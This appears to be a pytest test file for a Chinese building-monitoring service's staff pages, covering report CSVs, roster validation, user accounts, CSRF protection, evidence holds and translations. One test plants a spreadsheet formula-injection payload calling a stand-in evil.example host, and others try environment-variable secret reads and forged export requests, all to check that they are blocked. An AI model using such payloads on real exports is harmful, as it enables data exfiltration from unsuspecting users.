"""The staff pages without a browser: the month report and its CSV, the roster editor's validation, users
added from the page, the language switch."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import threading
from pathlib import Path

import pytest
from center_fixtures import *  # noqa: F403 (the pytest fixtures broker, db_url, pg_cluster)
from centerkit import load, run_cli, write_center
from fastapi.testclient import TestClient
from parts import alert, failed_mail, make_parts, send
from sqlalchemy import func, select
from support.servers import wait_for
from web_fixtures import add_people, csrf_of, logged_in, web_app

from center.camera_health import StorageLevel
from center.db import Audit, Case, Event, Evidence, Job, make_engine, make_sessions
from center.loop import ADMIN_RELEASE_WHYS, HOLD_WHYS
from center.models import Action, CaseState, JobState, Level, Role, Trust, Verdict
from center.roster import Roster
from center.service import Center
from center.web import i18n, views
from center.web.security import check_password
from center.web.views import CAMERA_STATES
from center.yamlfile import load_model
from edge.detect.tamper import Problem


@pytest.fixture
def site(tmp_path):
    parts = make_parts(tmp_path, f"sqlite:///{tmp_path / 'center.db'}")
    add_people(parts.sessions)
    yield parts, web_app(parts)
    parts.engine.dispose()


MAY = dt.datetime(2026, 5, 10, 2, 30, tzinfo=dt.UTC)  # 10:30 in Shanghai
HOUR = dt.timedelta(hours=1)


def test_the_month_report_counts_the_month_s_cases_by_floor_and_hour(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-1", floor=12, at=MAY))
    send(parts, alert("garden3-east", "east", "ev-2", floor=12, at=MAY + dt.timedelta(hours=1)))
    send(parts, alert("garden5", "south", "ev-3", floor=3, at=MAY + dt.timedelta(days=1)))
    send(parts, alert("garden5", "south", "ev-june", floor=3, at=MAY + dt.timedelta(days=40)))  # another month
    client = logged_in(app, "disp")
    page = client.get("/report?month=2026-05").text
    assert "<div>案件数<b>3</b></div>" in page
    assert "3号楼 east" in page and "5号楼 south" in page  # a heat map per facade with alerts
    assert page.count("<svg") == 3  # two facades and the hours


def test_the_month_report_draws_an_alert_from_above_the_roster_s_top_floor(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-roof", floor=27, at=MAY))  # 3号楼 has 26 floors
    send(parts, alert("garden3-east", "east", "ev-26", floor=26, at=MAY + HOUR))  # control: its top floor
    page = logged_in(app, "disp").get("/report?month=2026-05").text
    assert "<div>案件数<b>2</b></div>" in page
    heat = page[page.index("3号楼 east") :]
    assert 'text-anchor="end">27</text>' in heat and 'text-anchor="end">26</text>' in heat


def test_the_month_csv_has_one_row_per_case_and_its_export_is_logged(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-1", floor=12, at=MAY))
    send(parts, alert("garden5", "south", "ev-june", floor=3, at=MAY + dt.timedelta(days=40)))
    client = logged_in(app, "disp")
    r = client.get("/report.csv?month=2026-05")
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [(x["building"], x["facade"], x["floor"], x["alert_at"]) for x in rows] == [
        ("3号楼", "east", "12", "2026-05-10T10:30:00+08:00")
    ]
    with parts.sessions() as s:
        assert s.scalar(select(Audit.target).where(Audit.action == "export")) == "report:2026-05"


def test_a_month_csv_cell_that_excel_would_run_as_a_formula_is_kept_as_text(site):
    parts, app = site
    formula = '=HYPERLINK("http://evil.example/?"&A1,"3号楼")'  # a name pasted into the roster
    b3 = parts.roster.buildings["b3"]
    parts.roster.buildings["b3"] = b3.model_copy(update={"name": formula})
    parts.roster.buildings["b5"] = parts.roster.buildings["b5"].model_copy(update={"name": "5号楼, 东"})
    send(parts, alert("garden3-east", "east", "ev-1", floor=12, at=MAY))
    send(parts, alert("garden5", "south", "ev-2", floor=3, at=MAY + HOUR))  # control: a plain name, a comma
    r = logged_in(app, "disp").get("/report.csv?month=2026-05")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [x["building"] for x in rows] == ["'" + formula, "5号楼, 东"]
    assert [x["floor"] for x in rows] == ["12", "3"]


def test_the_month_csv_is_the_local_month_oldest_first(site):
    parts, app = site
    first = dt.datetime(2026, 4, 30, 16, 30, tzinfo=dt.UTC)  # 1 May 00:30 in Shanghai: May
    after = dt.datetime(2026, 5, 31, 16, 30, tzinfo=dt.UTC)  # 1 June 00:30 in Shanghai: not May
    for event_id, at in (("ev-mid", MAY), ("ev-june", after), ("ev-first", first), ("ev-april", first - HOUR)):
        send(parts, alert("garden3-east", "east", event_id, floor=12, at=at))
    r = logged_in(app, "disp").get("/report.csv?month=2026-05")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [x["alert_at"] for x in rows] == ["2026-05-01T00:30:00+08:00", "2026-05-10T10:30:00+08:00"]


def test_a_roster_with_a_mistake_is_refused_with_its_line_and_the_file_is_kept(site):
    parts, app = site
    client = logged_in(app, "admin")
    before = parts.cfg.roster.read_text()
    token = csrf_of(client.get("/roster").text)
    broken = before.replace("grid: g2", "grid: g9")
    r = client.post("/roster", data={"text": broken, "csrf": token})
    assert r.status_code == 422 and "no grid &#39;g9&#39; under grids:" in r.text and "roster.yaml:" in r.text
    assert parts.cfg.roster.read_text() == before
    fixed = before.replace("5号楼", "五号楼")
    r = client.post("/roster", data={"text": fixed, "csrf": token})  # control: a good one is saved and used
    assert r.status_code == 200 and parts.cfg.roster.read_text() == fixed
    assert "五号楼" in client.get("/roster").text


def test_a_roster_too_large_to_load_at_start_is_refused_on_the_page(site):
    parts, app = site
    client = logged_in(app, "admin")
    before = parts.cfg.roster.read_text()
    token = csrf_of(client.get("/roster").text)
    padded = before + "# 注释\n" * 30_000  # 300 KB of UTF-8 in fewer characters: over the start's 256 KiB
    r = client.post("/roster", data={"text": padded, "csrf": token})
    assert r.status_code == 422 and "too large" in r.text
    assert parts.cfg.roster.read_text() == before
    fine = before + "# 注释\n" * 1000  # control: a commented roster within the bound is saved, and loads at start
    assert client.post("/roster", data={"text": fine, "csrf": token}).status_code == 200
    assert parts.cfg.roster.read_text() == fine
    assert load_model(parts.cfg.roster, Roster).buildings.keys() == parts.roster.buildings.keys()  # as at start


def test_a_roster_saved_on_the_page_cannot_read_the_center_s_environment(site, monkeypatch):
    # The center's secrets (broker, database, SMTP passwords) are in its environment as ${NAME} for
    # center.yaml: a roster typed on the page must not copy one into a name every dispatcher sees.
    parts, app = site
    monkeypatch.setenv("CENTER_TEST_SECRET", "s3cret-of-the-broker")
    client = logged_in(app, "admin")
    before = parts.cfg.roster.read_text()
    token = csrf_of(client.get("/roster").text)
    # Set or not, with a default or not: one answer, so that the page cannot probe which names exist either.
    refs = ("${CENTER_TEST_SECRET}", '"\\x24{CENTER_TEST_SECRET}"', "${CENTER_TEST_SECRET:-x}", "${NOT_SET_X}")
    for ref in (*refs, "${NOT_SET_X:-x}"):
        r = client.post("/roster", data={"text": before.replace("5号楼", ref), "csrf": token})
        assert r.status_code == 422 and "is not taken here" in r.text and "is not set" not in r.text, ref
        assert "s3cret-of-the-broker" not in r.text
        assert parts.cfg.roster.read_text() == before
    assert "s3cret-of-the-broker" not in logged_in(app, "disp").get("/roster").text
    fine = before.replace("5号楼", "5号楼 $5 {x}")  # control: a dollar sign of its own is text, saved
    assert client.post("/roster", data={"text": fine, "csrf": token}).status_code == 200
    assert parts.cfg.roster.read_text() == fine


def test_only_an_admin_edits_the_roster(site):
    parts, app = site
    client = logged_in(app, "disp")
    token = csrf_of(client.get("/roster").text)
    before = parts.cfg.roster.read_text()
    assert client.post("/roster", data={"text": before.replace("5号楼", "X"), "csrf": token}).status_code == 403
    assert parts.cfg.roster.read_text() == before


def test_an_admin_adds_a_user_who_can_then_log_in(site):
    parts, app = site
    client = logged_in(app, "admin")
    token = csrf_of(client.get("/users").text)
    r = client.post(
        "/users",
        data={
            "name": "li",
            "role": "grid_worker",
            "worker": "chen",
            "password": "pw-li-long-enough",
            "csrf": token,
        },
    )
    assert r.status_code == 200 and 'id="token"' in r.text and "API 令牌" in r.text
    short = client.post(
        "/users", data={"name": "wu", "role": "dispatcher", "password": "short", "csrf": token}
    )  # a weak password: refused, nobody created
    assert short.status_code == 422 and "密码须为 10 至 256 个字符" in short.text
    long = {"name": "d" * 81, "role": "dispatcher", "password": "pw-long-enough-too", "csrf": token}
    assert client.post("/users", data=long).status_code == 422  # longer than a login takes: refused, not made
    for name, password, status in (("li", "pw-li-long-enough", 200), ("wu", "short", 401)):
        fresh = TestClient(app, base_url="https://testserver")
        login = csrf_of(fresh.get("/login").text)
        assert fresh.post("/login", data={"name": name, "password": password, "csrf": login}).status_code == status


def test_the_pages_are_chinese_first_with_an_english_switch(site):
    _, app = site
    client = logged_in(app, "disp")
    assert "告警" in client.get("/alerts").text
    client.get("/lang/en?next=/alerts")
    assert ">Alerts" in client.get("/alerts").text
    assert set(i18n.ZH) == set(i18n.EN)  # every word has both languages


def test_a_case_s_evidence_export_is_logged(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-zip", at=MAY))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    client = logged_in(app, "disp")
    token = csrf_of(client.get(f"/alerts/{case}").text)
    r = client.post(f"/alerts/{case}/export.zip", data={"csrf": token})
    assert r.status_code == 200 and r.content[:2] == b"PK"
    zhang = logged_in(app, "zhang")
    token = csrf_of(zhang.get(f"/alerts/{case}").text)
    assert zhang.post(f"/alerts/{case}/export.zip", data={"csrf": token}).status_code == 403  # staff only
    with parts.sessions() as s:
        assert s.scalar(select(Audit.actor).where(Audit.action == "export")) == "disp"


def test_a_link_to_the_export_cannot_export_in_a_dispatcher_s_name(site):
    # An export is a change: an audit line saying who gave the evidence away (to the police), and a hold only
    # an admin may release. A link on any site (or in a chat) opened by a logged-in dispatcher sends the
    # session cookie (SameSite=Lax lets top-level GETs through): it must not do either.
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-zip-link", at=MAY))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id).join(Event).where(Event.event_id == "ev-zip-link"))
    disp = logged_in(app, "disp")
    assert disp.get(f"/alerts/{case}/export.zip").status_code == 405
    assert disp.post(f"/alerts/{case}/export.zip", data={}).status_code == 403  # a forged form: no token
    with parts.sessions() as s:
        assert s.scalar(select(Audit.id).where(Audit.action == "export")) is None
        assert not parts.loop.held(s, s.get(Case, case))
    page = disp.get(f"/alerts/{case}").text
    assert f'action="/alerts/{case}/export.zip"' in page  # control: the page's own button exports
    r = disp.post(f"/alerts/{case}/export.zip", data={"csrf": csrf_of(page)})
    assert r.status_code == 200 and r.content[:2] == b"PK"
    with parts.sessions() as s:
        assert s.scalar(select(Audit.actor).where(Audit.action == "export")) == "disp"
        assert parts.loop.held(s, s.get(Case, case))


def test_exported_evidence_is_released_by_an_admin_only_even_when_it_was_held_before(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-zip-held", at=MAY))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id).join(Event).where(Event.event_id == "ev-zip-held"))
    disp = logged_in(app, "disp")
    token = csrf_of(disp.get(f"/alerts/{case}").text)
    held = disp.post(f"/alerts/{case}/hold", data={"hold": "on", "note": "邻居投诉", "csrf": token})
    assert held.status_code == 200
    page = disp.get(f"/alerts/{case}").text
    assert 'name="hold" value="off"' in page and 'id="release-admin"' not in page  # control: held by hand
    assert 'data-node-hold="none"' in page  # asked, not answered yet
    parts.ingest.handle("edge/garden3-east/events/ev-zip-held/hold/state", b"ON")
    assert i18n.ZH["node_hold.on"] in disp.get(f"/alerts/{case}").text
    exported = disp.post(f"/alerts/{case}/export.zip", data={"csrf": csrf_of(disp.get(f"/alerts/{case}").text)})
    assert exported.status_code == 200  # held already: no new hold in history
    page = disp.get(f"/alerts/{case}").text
    assert 'name="hold" value="off"' not in page
    assert i18n.ZH["release_admin.exported"] in page
    token = csrf_of(page)
    by_disp = disp.post(f"/alerts/{case}/hold", data={"hold": "off", "note": "不需要了", "csrf": token})
    assert by_disp.status_code == 403
    admin = logged_in(app, "admin")
    token = csrf_of(admin.get(f"/alerts/{case}").text)
    released = admin.post(f"/alerts/{case}/hold", data={"hold": "off", "note": "公安已取证", "csrf": token})
    assert released.status_code == 200 and 'name="hold" value="on"' in released.text


def test_a_dispatcher_reassigns_a_case_and_the_new_person_is_told_and_must_acknowledge(tmp_path):
    hook = {"webhooks": [{"url": "http://127.0.0.1:9/hook", "secret": "s"}]}  # notices queued, never sent here
    parts = make_parts(tmp_path, f"sqlite:///{tmp_path / 'center.db'}", notify=hook)
    add_people(parts.sessions)
    app = web_app(parts)
    send(parts, alert("garden3-east", "east", "ev-re", level="confirmed"))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    client = logged_in(app, "disp")
    token = csrf_of(client.get(f"/alerts/{case}").text)
    r = client.post(f"/alerts/{case}/reassign", data={"to": "worker:chen", "csrf": token})
    assert r.status_code == 422  # chen is of another grid: not someone this building's case may go to
    r = client.post(f"/alerts/{case}/reassign", data={"to": "leader:g1", "csrf": token})
    assert r.status_code == 200
    with parts.sessions() as s:
        c = s.get(Case, case)
        assert (c.state, c.assignee, c.escalation) == ("dispatched", "leader:g1", 1)
        assert [h.action for h in c.history][-1] == "reassign"
        told = [
            j.payload["to"] for j in s.scalars(select(Job).where(Job.case_id == case, Job.channel == "webhook"))
        ]
        assert told == ["worker:zhang", "leader:g1"]  # the first dispatch, then the reassignment
    zhang = logged_in(app, "zhang")
    own = csrf_of(zhang.get(f"/alerts/{case}").text)  # their own token: refused for the role, not the form
    r = zhang.post(f"/alerts/{case}/reassign", data={"to": "worker:zhang", "csrf": own})
    assert r.status_code == 403 and "无权查看或操作" in r.text
    parts.engine.dispose()


def _audit_actions() -> set[str]:
    """Every action the pages write to the audit log: literal ones, and the loop's buttons (str(action))."""
    source = "".join(m.read_text() for m in (Path(i18n.__file__).parent).glob("*.py"))
    found = set(re.findall(r'audit(?:_now)?\(\s*(?:s, )?request, [^,]+, "(\w+)"', source)) | {"login_failed"}
    buttons = {Action.CONFIRM, Action.DISMISS, Action.ACKNOWLEDGE, Action.CHECK, Action.RESOLVE}
    assert {"view", "export", "roster", "logout"} <= found  # the scan finds them
    return found | {str(a) for a in buttons}


def test_every_word_the_templates_ask_for_is_in_both_languages():
    keys = set()
    for page in (Path(i18n.__file__).parent / "templates").glob("*.html"):
        keys |= set(re.findall(r"\bt\('([a-z_.]+)'", page.read_text()))
    values = {  # 'state.' ~ case.state and the like: every value the enum can take
        "state.": CaseState, "level.": Level, "verdict.": Verdict, "role.": Role, "trust.": Trust,
        "problem.": Problem, "storage.": StorageLevel,
        "action.": Action, "camstate.": CAMERA_STATES, "job.": JobState,
        "channel.": ("webhook", "wecom", "email", "feedback", "hold", "release"),
        "file.": ("snapshot", "clip", "original", "manifest", "photo"), "audit.": _audit_actions(),
        "hold_why.": HOLD_WHYS, "release_admin.": ADMIN_RELEASE_WHYS, "node_hold.": ("on", "off", "none"),
    }  # fmt: skip
    for prefix in [k for k in keys if k.endswith(".")]:
        keys.remove(prefix)
        keys |= {f"{prefix}{x}" for x in values[prefix]}
    assert len(keys) > 50 and not keys - set(i18n.EN), sorted(keys - set(i18n.EN))


def test_user_add_with_a_password_file_gives_a_login_and_a_weak_password_creates_nobody(tmp_path):
    config = write_center(tmp_path, None)
    short, good = tmp_path / "short.pw", tmp_path / "good.pw"
    short.write_text("too-short\n")
    good.write_text("a-good-long-password\n")
    r = run_cli(
        "user", "add", "desk", "--role", "dispatcher", "--password-file", str(short), "--config", str(config)
    )
    assert r.returncode == 64 and "at least 10 characters" in r.stderr
    r = run_cli(
        "user", "add", "desk", "--role", "dispatcher", "--password-file", str(good), "--config", str(config)
    )
    assert r.returncode == 0 and r.stdout.startswith("ec_")
    cfg, _ = load(config)
    engine = make_engine(cfg.database_url())
    readers, writers = make_sessions(engine, readonly=True), make_sessions(engine)
    assert check_password(readers, writers, "desk", "a-good-long-password") is not None
    assert check_password(readers, writers, "desk", "too-short") is None
    engine.dispose()


def test_the_whole_loop_through_the_pages_on_postgresql(tmp_path, pg_cluster):
    parts = make_parts(tmp_path, pg_cluster.new_database())
    add_people(parts.sessions)
    app = web_app(parts)
    send(parts, alert("garden3-east", "east", "ev-pg", level="suspected"))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    disp, zhang = logged_in(app, "disp"), logged_in(app, "zhang")

    def press(client, action, **form):
        token = csrf_of(client.get(f"/alerts/{case}").text)
        files = {"photo": ("p.jpg", form.pop("photo"), "image/jpeg")} if "photo" in form else None
        r = client.post(f"/alerts/{case}/act", data={"action": action, "csrf": token, **form}, files=files)
        assert r.status_code == 200, r.text[:300]

    press(disp, "confirm")
    press(zhang, "acknowledge")
    press(zhang, "check", verdict="thrown", note="花盆", photo=b"\xff\xd8\xff\xe0" + b"x" * 500)
    press(disp, "resolve")
    with parts.sessions() as s:
        c = s.get(Case, case)
        assert (c.state, c.verdict, c.acknowledged_by, c.resolved_by) == ("resolved", "thrown", "zhang", "disp")
        actions = [h.action for h in c.history]
        assert actions[-5:] == ["acknowledge", "check", "hold", "photo", "resolve"]  # thrown: evidence held
        assert s.scalar(select(Job.target).where(Job.channel == "feedback")) == "garden3-east"
        assert s.scalar(select(Job.target).where(Job.channel == "hold")) == "garden3-east"
    page = disp.get(f"/alerts/{case}").text
    assert "花盆" in page and 'class="photo"' in page
    assert 'id="hold-state"' in page and 'name="hold" value="off"' not in page  # thrown: not a dispatcher's
    assert 'id="release-admin"' in page
    token = csrf_of(page)
    by_disp = disp.post(f"/alerts/{case}/hold", data={"hold": "off", "note": "不需要了", "csrf": token})
    assert by_disp.status_code == 403
    admin = logged_in(app, "admin")
    page = admin.get(f"/alerts/{case}").text
    assert 'name="hold" value="off"' in page  # control: an admin is offered the release
    token = csrf_of(page)
    no_reason = admin.post(f"/alerts/{case}/hold", data={"hold": "off", "csrf": token})
    assert no_reason.status_code == 422
    released = admin.post(f"/alerts/{case}/hold", data={"hold": "off", "note": "法院已结案", "csrf": token})
    assert released.status_code == 200 and 'name="hold" value="on"' in released.text
    assert re.search(r'data-action="release">[^<]*· admin\s*· “法院已结案”', released.text)  # who, and why
    zhang_token = csrf_of(zhang.get(f"/alerts/{case}").text)
    assert zhang.post(f"/alerts/{case}/hold", data={"hold": "on", "csrf": zhang_token}).status_code == 403
    with parts.sessions() as s:
        assert s.scalar(select(Job.target).where(Job.channel == "release")) == "garden3-east"
    parts.engine.dispose()


def test_a_hold_form_without_its_csrf_token_is_refused_and_holds_nothing(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-hold-csrf"))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    disp = logged_in(app, "disp")
    assert disp.post(f"/alerts/{case}/hold", data={"hold": "on"}).status_code == 403
    assert disp.post(f"/alerts/{case}/hold", data={"hold": "on", "csrf": "forged"}).status_code == 403
    with parts.sessions() as s:
        assert not parts.loop.held(s, s.get(Case, case))
    token = csrf_of(disp.get(f"/alerts/{case}").text)
    assert disp.post(f"/alerts/{case}/hold", data={"hold": "on", "csrf": token}).status_code == 200  # control
    with parts.sessions() as s:
        assert parts.loop.held(s, s.get(Case, case))


def test_a_removed_user_is_logged_out_at_once(site):
    parts, app = site
    zhang = logged_in(app, "zhang")
    assert zhang.get("/alerts", follow_redirects=False).status_code == 200
    admin = logged_in(app, "admin")
    page = admin.get("/users").text
    user_id = re.search(r'action="/users/(\d+)/remove"', page[page.index('data-user="zhang"') :]).group(1)
    r = admin.post(f"/users/{user_id}/remove", data={"csrf": csrf_of(page)})
    assert r.status_code == 200 and 'data-user="zhang"' not in r.text
    assert zhang.get("/alerts", follow_redirects=False).status_code == 303  # back to the login page
    assert admin.get("/alerts", follow_redirects=False).status_code == 200  # control: the admin is still in


def test_no_template_has_words_outside_the_catalogue():
    """Text a person reads is t('...') in every template: what is left between tags and expressions is no word
    of either language (CPU is the same in both)."""
    for page in (Path(i18n.__file__).parent / "templates").glob("*.html"):
        text = re.sub(r"\{\{.*?\}\}|\{%.*?%\}|\{#.*?#\}", " ", page.read_text(), flags=re.S)
        shown = re.sub(r"<[^>]*>", " ", text, flags=re.S)  # attributes read out (alt, title) are checked below
        words = set(re.findall(r"[A-Za-z][A-Za-z'-]+", shown)) - {"CPU"}
        labels = re.findall(r'(?:alt|title|placeholder|aria-label)="([^"{]*[A-Za-z][^"{]*)"', text)
        assert not words and not labels, (page.name, words, labels)


def test_every_message_the_pages_and_the_loop_refuse_with_is_in_both_languages():
    web = Path(i18n.__file__).parent
    keys = set()
    for module in web.glob("*.py"):
        source = module.read_text()
        keys |= set(re.findall(r'PageError\(\s*(?:\d+|exc\.status),\s*"([^"]+)"', source))
        keys |= set(re.findall(r'\bv\.t\("([^"]+)"', source))
    loop = (web.parent / "loop.py").read_text()
    keys |= {f"refused.{k}" for k in re.findall(r'Refused\([^\n]*?, \d+, "(\w+)"', loop)} | {"refused.step"}
    assert {"refused.target", "refused.verdict", "photo_not_jpeg", "user.self"} <= keys  # the scan finds them
    assert not keys - set(i18n.EN) and not keys - set(i18n.ZH), sorted(keys - set(i18n.EN) - set(i18n.ZH))


def test_how_long_a_new_alert_has_waited_is_in_the_viewer_s_language(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-wait"))
    client = logged_in(app, "disp")
    waited = re.findall(r'data-label="等待">([^<]*)<', client.get("/alerts").text)
    assert len(waited) == 1 and re.fullmatch(r"\d+ (秒|分钟)", waited[0]), waited
    client.get("/lang/en")
    assert re.search(r'data-label="Waited">\d+ (s|min)<', client.get("/alerts").text)  # control: in English


def test_the_center_s_notes_on_evidence_are_in_the_viewer_s_language(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-note"))
    parts.ingest.handle("edge/garden3-east/events/ev-note/snapshot", b"\xff\xd8\xff\xe0" + b"n" * 100)
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    zhang = logged_in(app, "zhang")
    page = zhang.get(f"/alerts/{case}").text
    assert "尚无签名清单列出此文件" in page and "no signed manifest" not in page
    zhang.get("/lang/en")
    assert "no signed manifest lists it yet" in zhang.get(f"/alerts/{case}").text  # control: in English
    for _, key in views.TRUST_NOTES:
        assert key in i18n.EN and key in i18n.ZH
    zh = i18n.translator("zh")
    for note, shown in (  # every note center.trust and center.photos write, with its fields
        ("signed by the node's key ab12cd34…", "由节点密钥 ab12cd34… 签名"),
        ("signed by key 0123456789abcdef, not the node's registered key", "由密钥 0123456789abcdef 签名"),
        ("the node is not registered (edge-center node add)", "节点未登记"),
        ("the signature does not match the manifest (altered)", "签名与清单不符"),
        ("uploaded by zhang", "zhang 上传"),
        ("signed for event ev-a, not the event it was sent under", "清单签给事件 ev-a"),
        ("signed for node garden9, not the node it was sent under", "清单签给节点 garden9"),
    ):
        assert views.trust_note(note, zh).startswith(shown)


def test_a_refusal_of_the_loop_is_shown_in_the_viewer_s_language(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-twice", level="suspected"))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    disp = logged_in(app, "disp")
    token = csrf_of(disp.get(f"/alerts/{case}").text)
    assert disp.post(f"/alerts/{case}/act", data={"action": "confirm", "csrf": token}).status_code == 200
    again = disp.post(f"/alerts/{case}/act", data={"action": "confirm", "csrf": token})  # a second tab's button
    assert again.status_code == 409 and "该案件当前为“已派单”，不能“确认并派单”" in again.text
    disp.get("/lang/en")
    again = disp.post(f"/alerts/{case}/act", data={"action": "confirm", "csrf": token})
    assert again.status_code == 409
    assert "This case is “dispatched” now, so “Confirm and dispatch” cannot be done" in again.text
    r = disp.post(f"/alerts/{case}/reassign", data={"to": "worker:chen", "csrf": token})
    assert r.status_code == 422 and "worker:chen is not someone of this building&#39;s grid" in r.text


def test_a_roster_saved_on_one_instance_s_page_is_used_by_another_running_instance(site):
    parts, app = site
    other = Center(parts.cfg, parts.roster)  # a second instance over the same roster file
    timers = threading.Thread(target=other._timers, daemon=True)
    timers.start()
    try:
        admin = logged_in(app, "admin")
        token = csrf_of(admin.get("/roster").text)
        saved = parts.cfg.roster.read_text().replace("5号楼", "五号楼")
        assert admin.post("/roster", data={"text": saved, "csrf": token}).status_code == 200
        assert wait_for(lambda: other.loop.roster.buildings["b5"].name == "五号楼", 30)
        assert other.context.roster is other.loop.roster  # its pages and API see the same roster
        parts.cfg.roster.write_text(saved.replace("grid: g2", "grid: g9"))  # broken by hand: not used
        assert not other.reload_roster() and other.loop.roster.buildings["b5"].grid == "g2"
    finally:
        other.stopping.set()
        timers.join(10)
        other.engine.dispose()


def _seen_of(html: str) -> str:
    """The newest history row the alert's page was shown with (what its buttons send back)."""
    m = re.search(r'name="seen" value="(\d+)"', html)
    assert m, "the alert's page has no action form"
    return m.group(1)


def test_a_verdict_sent_twice_from_a_slow_phone_is_recorded_once_and_not_refused(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-two-taps", level="confirmed"))  # dispatched to zhang
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    zhang = logged_in(app, "zhang")
    page = zhang.get(f"/alerts/{case}").text
    form = {"action": "check", "verdict": "false_alarm", "csrf": csrf_of(page), "seen": _seen_of(page)}
    photo = {"photo": ("site.jpg", b"\xff\xd8\xff\xe0" + b"p" * 500, "image/jpeg")}
    first = zhang.post(f"/alerts/{case}/act", data=form, files=photo)
    second = zhang.post(f"/alerts/{case}/act", data=form, files=photo)  # the second tap
    assert first.status_code == second.status_code == 200 and second.url.path == f"/alerts/{case}"
    assert 'data-state="checked"' in second.text and 'id="error"' not in second.text
    with parts.sessions() as s:
        c = s.get(Case, case)
        assert [h.action for h in c.history].count("check") == 1 and c.verdict == "false_alarm"
        assert s.scalar(select(func.count(Evidence.id)).where(Evidence.kind == "photo")) == 1
    other = zhang.post(f"/alerts/{case}/act", data={**form, "verdict": "thrown"})  # another verdict: refused
    assert other.status_code == 409 and "该案件当前为“已现场核查”" in other.text
    disp = logged_in(app, "disp")  # someone else pressing it on a page shown before: refused, said why
    again = disp.post(f"/alerts/{case}/act", data={**form, "csrf": csrf_of(disp.get(f"/alerts/{case}").text)})
    assert again.status_code == 409


@pytest.mark.parametrize("page", ["²", "9" * 5000, "-1", "0", "1e3"])
def test_a_page_number_that_is_no_page_shows_the_first(site, page):
    _, app = site
    disp = logged_in(app, "disp")
    r = disp.get("/alerts", params={"page": page})
    assert r.status_code == 200 and 'id="rows"' in r.text
    assert disp.get("/alerts/rows", params={"page": page}).status_code == 200


def test_a_check_pressed_again_with_another_photo_is_refused_not_taken_for_a_repeat(site):
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-new-photo", level="confirmed"))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    zhang = logged_in(app, "zhang")
    page = zhang.get(f"/alerts/{case}").text
    form = {"action": "check", "verdict": "false_alarm", "csrf": csrf_of(page), "seen": _seen_of(page)}
    assert zhang.post(f"/alerts/{case}/act", data=form).status_code == 200  # checked, without a photo
    photo = {"photo": ("site.jpg", b"\xff\xd8\xff\xe0" + b"q" * 500, "image/jpeg")}
    again = zhang.post(f"/alerts/{case}/act", data=form, files=photo)  # back, a photo added, pressed again
    assert again.status_code == 409  # said, not swallowed: the photo was not kept
    noted = zhang.post(f"/alerts/{case}/act", data={**form, "note": "楼下有积水"})
    assert noted.status_code == 409
    assert zhang.post(f"/alerts/{case}/act", data=form).status_code == 200  # control: the same press, a repeat


def test_a_phone_photo_larger_than_the_center_takes_is_refused_in_the_worker_s_language(site):
    parts, app = site
    from center.web.app import MAX_BODY

    send(parts, alert("garden3-east", "east", "ev-huge", level="confirmed"))
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    zhang = logged_in(app, "zhang")
    page = zhang.get(f"/alerts/{case}").text
    assert 'accept="image/*" capture="environment"' in page and f'data-max-bytes="{10 << 20}"' in page
    photo = {"photo": ("p.jpg", b"\xff\xd8\xff\xe0" + b"x" * MAX_BODY, "image/jpeg")}  # a 48-megapixel shot
    r = zhang.post(f"/alerts/{case}/act", data={"action": "check", "csrf": csrf_of(page)}, files=photo)
    assert r.status_code == 413 and "照片不能超过 10 MB" in r.text and "request body too large" not in r.text
    zhang.get("/lang/en")
    r = zhang.post(f"/alerts/{case}/act", data={"action": "check", "csrf": csrf_of(page)}, files=photo)
    assert r.status_code == 413 and "a photo may be at most 10 MB" in r.text  # control: in English
    api = zhang.post(f"/api/cases/{case}/check", content=b"x" * (MAX_BODY + 1))
    assert api.status_code == 413 and api.text == "request body too large"  # the API's callers read English
    with parts.sessions() as s:
        assert s.get(Case, case).state == CaseState.DISPATCHED


def test_what_the_center_did_by_itself_is_said_in_the_viewer_s_language_in_a_case_s_history(site):
    """And a grid worker's step names them as the office knows them, not by their login alone."""
    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-by-itself", level="confirmed"))  # created and dispatched by it
    with parts.sessions() as s:
        case = s.scalar(select(Case.id))
    zhang = logged_in(app, "zhang")
    token = csrf_of(zhang.get(f"/alerts/{case}").text)
    zhang.post(f"/alerts/{case}/act", data={"action": "acknowledge", "csrf": token})
    history = re.findall(r'<li data-action="(\w+)">[^·]*· [^·]*· ([^\n<]*)', zhang.get(f"/alerts/{case}").text)
    assert [(a, who.strip()) for a, who in history] == [
        ("created", "系统自动"),
        ("dispatch", "系统自动"),
        ("acknowledge", "张伟 · zhang"),  # control: a person, by the roster's name and their login
    ]
    zhang.get("/lang/en")
    assert "created · the center (by itself)" in zhang.get(f"/alerts/{case}").text


def test_a_retention_sweep_in_a_case_s_history_is_said_in_words(site):
    from center.db import History, utcnow
    from center.retention import RETENTION

    parts, app = site
    send(parts, alert("garden3-east", "east", "ev-swept", level="confirmed"))
    with parts.sessions.begin() as s:
        case = s.scalar(select(Case.id))
        s.add(History(case_id=case, action=RETENTION, actor="center", at=utcnow(), detail={"files": 2}))
